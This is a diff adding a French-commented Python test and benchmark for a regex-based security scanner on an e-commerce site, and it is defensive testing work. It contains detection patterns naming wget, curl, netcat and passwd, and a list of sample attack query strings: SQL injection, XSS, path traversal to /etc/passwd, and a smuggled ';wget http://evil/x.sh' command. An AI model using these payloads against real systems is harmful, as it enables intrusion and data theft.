@@ -0,0 +1,116 @@
+#!/usr/bin/env python3
+"""
+Test + benchmark du moteur de détection partagé (pattern_scanner.py)
+Compare, sur un corpus de query strings réelles du site, l'ancienne boucle
+de regex (SecurityMiddleware) au scanner avec préfiltre par littéraux.
+
+Usage: python test_pattern_scanner.py [fichier_query_strings.txt]
+(une query string par ligne, ex: extraite des logs nginx)
+"""
+
+import re
+import sys
+import time
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).parent / "src" / "josmoze_ecommerce" / "backend" / "services"))
+
+from pattern_scanner import PatternScanner
+
+# Règles de SecurityMiddleware
+MIDDLEWARE_PATTERNS = [
+    r'(?i)(union|select|drop|delete|insert|update)\s+',
+    r'(?i)<script[^>]*>.*?</script>',
+    r'(?i)javascript:',
+    r'(?i)on\w+\s*=',
+    r'(?i)(exec|eval|system|cmd)\s*\(',
+    r'\.\./.*\.\.',
+    r'(?i)(wget|curl|nc|netcat)',
+]
+
+# Règles de SecurityAuditAgent (appliquées avec re.IGNORECASE)
+AUDIT_PATTERNS = [
+    r"union.*select", r"<script.*>", r"javascript:", r"eval\(", r"exec\(", r"system\(",
+    r"\.\.\/", r"passwd", r"shadow", r"etc/", r"admin.*admin", r"root.*root", r"hack", r"exploit"
+]
+
+DEFAULT_CORPUS = [
+    "",
+    "lang=fr",
+    "category=osmoseurs&page=2&sort=price_asc",
+    "utm_source=google&utm_medium=cpc&utm_campaign=osmoseur_fr&gclid=EAIaIQobChMI8Lx",
+    "utm_source=email&utm_campaign=osmozeur_seq1&utm_content=email1_sensibilisation",
+    "q=filtre+osmose+inverse&country=FR",
+    "token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJjbGllbnQifQ.abc",
+    "session_id=cs_test_a1B2c3D4e5F6g7H8i9J0",
+    "product_id=osmoseur-premium&quantity=1&customer_type=B2C",
+    "start_date=2024-01-01&end_date=2024-01-31&format=csv",
+    "fbclid=IwAR2xYz&utm_source=facebook&utm_medium=social",
+    "recovery?token=3f2b8c1e-9a7d-4e55-b1c2-7d8e9f0a1b2c",
+]
+
+ATTACKS = [
+    "id=1 UNION SELECT password FROM users",
+    "q=<script>alert(1)</script>",
+    "next=javascript:alert(document.cookie)",
+    "img=x onerror=alert(1)",
+    "cmd=eval(base64_decode('...'))",
+    "file=../../etc/passwd",
+    "u=;wget http://evil/x.sh",
+    "q=ſelect * from products",
+]
+
+
+def legacy_first_match(compiled, text):
+    for pattern in compiled:
+        if pattern.search(text):
+            return pattern.pattern
+    return None
+
+
+def check_same_results_as_legacy(corpus):
+    """Mêmes décisions que l'ancienne boucle, pour le middleware et l'agent d'audit"""
+    middleware_legacy = [re.compile(p) for p in MIDDLEWARE_PATTERNS]
+    audit_legacy = [re.compile(p, re.IGNORECASE) for p in AUDIT_PATTERNS]
+    middleware_scanner = PatternScanner(MIDDLEWARE_PATTERNS)
+    audit_scanner = PatternScanner(AUDIT_PATTERNS, re.IGNORECASE)
+
+    for text in corpus + ATTACKS:
+        assert middleware_scanner.first_match(text) == legacy_first_match(middleware_legacy, text), text
+        assert audit_scanner.matches(text) == [p.pattern for p in audit_legacy if p.search(text)], text
+    print(f"✅ Résultats identiques sur {len(corpus) + len(ATTACKS)} entrées")
+
+
+def test_same_results_as_legacy():
+    check_same_results_as_legacy(DEFAULT_CORPUS)
+
+
+def benchmark(corpus, repeat: int = 2000):
+    compiled = [re.compile(p) for p in MIDDLEWARE_PATTERNS]
+    scanner = PatternScanner(MIDDLEWARE_PATTERNS)
+    texts = corpus * repeat
+
+    start = time.perf_counter()
+    for text in texts:
+        legacy_first_match(compiled, text)
+    before = time.perf_counter() - start
+
+    start = time.perf_counter()
+    for text in texts:
+        scanner.first_match(text)
+    after = time.perf_counter() - start
+
+    print(f"📊 {len(texts)} query strings: avant {before / len(texts) * 1e6:.2f} µs, "
+          f"après {after / len(texts) * 1e6:.2f} µs par requête (x{before / after:.1f})")
+
+
+if __name__ == "__main__":
+    if len(sys.argv) > 1:
+        corpus = [line.rstrip("\n") for line in open(sys.argv[1], encoding="utf-8")]
+    else:
+        corpus = DEFAULT_CORPUS
+
+    print("🧪 MOTEUR DE DÉTECTION PARTAGÉ")
+    print("=" * 50)
+    check_same_results_as_legacy(corpus)
+    benchmark(corpus)